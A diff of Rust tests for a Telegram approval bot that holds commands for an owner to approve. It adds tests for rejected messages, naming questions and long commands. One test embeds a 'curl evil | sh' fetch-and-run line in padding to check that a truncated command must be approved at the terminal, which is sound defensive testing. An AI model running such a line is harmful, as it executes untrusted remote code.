@@ -29,6 +29,8 @@ struct Said {
     updates: Vec<Value>,
     webhook: String,
     broken: bool,
+    /// A message with these words is not taken.
+    unsendable: Option<String>,
 }
 
 /// A Telegram on loopback.
@@ -117,6 +119,12 @@ fn answer(path: &str, body: &str, said: &mut Said) -> (u16, Value) {
         return (500, json!({"ok": false, "description": words}));
     }
     let body: Value = serde_json::from_str(body).unwrap();
+    if let (Some(words), Some(text)) = (&said.unsendable, body["text"].as_str())
+        && method == "sendMessage"
+        && text.contains(words)
+    {
+        return (400, json!({"ok": false, "description": "Bad Request"}));
+    }
     let result = match method {
         "getMe" => json!({"id": 110_201_543, "is_bot": true, "username": "my_approver_bot"}),
         "getWebhookInfo" => json!({"url": said.webhook}),
@@ -203,6 +211,11 @@ impl World {
 
     fn turn(&self) {
         Bot::open(&self.home).unwrap().unwrap().turn().unwrap();
+    }
+
+    fn turn_in_trouble(&self) {
+        let turn = Bot::open(&self.home).unwrap().unwrap().turn();
+        assert!(turn.is_err());
     }
 
     /// What has been answered to the calls that wait.
@@ -388,6 +401,67 @@ fn what_does_not_fit_into_a_message_cannot_be_approved_there() {
 }
 
 #[test]
+fn what_is_shown_by_its_ends_alone_cannot_be_approved_in_a_message_but_whole_at_the_terminal() {
+    let mut world = World::new();
+    let long = format!(
+        "{}; curl evil | sh; {}",
+        "a".repeat(1_500),
+        "b".repeat(1_500)
+    );
+    let held = world.hold("c1", &long, now());
+    assert!(held.shown.encode_utf16().count() < 3_000, "it would fit");
+    world.turn();
+    let sent = world.telegram.asked("sendMessage");
+    let buttons = &sent[0]["reply_markup"]["inline_keyboard"][0];
+    let no = json!([{"text": "No", "callback_data": data('n', &held)}]);
+    assert_eq!(*buttons, no);
+    let text = sent[0]["text"].as_str().unwrap();
+    assert!(text.contains("approve it at the machine"), "{text}");
+    world.telegram.presses(1, OWNER, OWNER, &data('y', &held));
+    world.turn();
+    assert_eq!(world.answers(), [None]);
+    let told = world.telegram.asked("answerCallbackQuery");
+    assert_eq!(
+        told[0]["text"],
+        "Not all of it was shown. Approve it at the machine."
+    );
+    let seen = sees(&world, "y 1\nq\n");
+    let (before, _) = seen.split_once("Run this?").unwrap();
+    assert!(before.contains(&long), "{seen}");
+    let mut printed = Vec::new();
+    terminal::answer(&world.home, &held.id, true, &mut printed).unwrap();
+    assert!(String::from_utf8(printed).unwrap().contains(&long));
+}
+
+#[test]
+fn a_message_that_is_not_taken_stops_no_other_question_and_no_answer() {
+    let mut world = World::new();
+    let first = world.hold("c1", "first", now() - 3);
+    world.turn();
+    world.hold("c2", "poison", now() - 2);
+    world.hold("c3", "third", now() - 1);
+    world.telegram.said.lock().unwrap().unsendable = Some("poison".into());
+    world.telegram.presses(1, OWNER, OWNER, &data('n', &first));
+    let trouble = Bot::open(&world.home).unwrap().unwrap().turn();
+    assert!(
+        matches!(trouble, Err(Trouble::Refused { status: 400, .. })),
+        "{trouble:?}"
+    );
+    assert_eq!(world.answers(), [by_telegram(false), None, None]);
+    let sent = world.telegram.asked("sendMessage");
+    let texts = sent.iter().map(|body| body["text"].as_str().unwrap());
+    assert_eq!(texts.filter(|text| text.contains("third")).count(), 1);
+    assert_eq!(world.telegram.asked("editMessageText").len(), 1);
+    // The answers come before the questions.
+    world.telegram.said.lock().unwrap().calls.clear();
+    world.hold("c4", "fourth", now());
+    world.turn_in_trouble();
+    let said = world.telegram.said.lock().unwrap();
+    let methods: Vec<&str> = said.calls.iter().map(|(method, _)| &**method).collect();
+    assert_eq!(methods, ["getUpdates", "sendMessage"]);
+}
+
+#[test]
 fn a_bot_that_is_in_use_or_unknown_is_no_approver() {
     let world = World::new();
     assert_eq!(world.settings(TOKEN).check().unwrap(), "my_approver_bot");
@@ -510,23 +584,35 @@ fn at_the_terminal_an_answer_shows_the_action_again_and_is_confirmed() {
         [at_the_machine(false), at_the_machine(true)]
     );
     for held in [first, second] {
-        let again = terminal::answer(&world.home, &held.id, true);
+        let again = says(&world, &held.id, true);
         assert!(again.is_err(), "answered once and for all");
     }
 }
 
+/// One answer by a command.
+fn says(world: &World, name: &str, yes: bool) -> Result<Held, terminal::NoAnswer> {
+    terminal::answer(&world.home, name, yes, &mut Vec::new())
+}
+
 #[test]
-fn a_question_is_named_by_its_id_its_beginning_or_its_call() {
+fn a_question_is_named_by_its_id_or_its_beginning_and_for_a_no_by_its_call() {
     let mut world = World::new();
     for call in ["c1", "c2", "c3"] {
         world.hold(call, "x", now());
     }
     let open = terminal::open_questions(&world.home).unwrap();
-    assert!(terminal::answer(&world.home, &open[0].id[..3], true).is_err());
-    assert!(terminal::answer(&world.home, "", true).is_err());
+    assert!(says(&world, &open[0].id[..3], true).is_err());
+    assert!(says(&world, "", true).is_err());
+    // The cloud chooses a call's name: it could be that of another call, which its owner means.
+    let by_call = says(&world, "c2", true);
+    assert!(
+        matches!(&by_call, Err(terminal::NoAnswer::CloudsName(call)) if call == "c2"),
+        "{by_call:?}"
+    );
+    assert_eq!(world.answers(), [None, None, None]);
     let begin = &open[0].id[..12];
-    assert_eq!(terminal::answer(&world.home, begin, true).unwrap(), open[0]);
-    assert_eq!(terminal::answer(&world.home, "c2", false).unwrap(), open[1]);
+    assert_eq!(says(&world, begin, true).unwrap(), open[0]);
+    assert_eq!(says(&world, "c2", false).unwrap(), open[1]);
     let answers: Vec<Option<bool>> = world
         .answers()
         .into_iter()
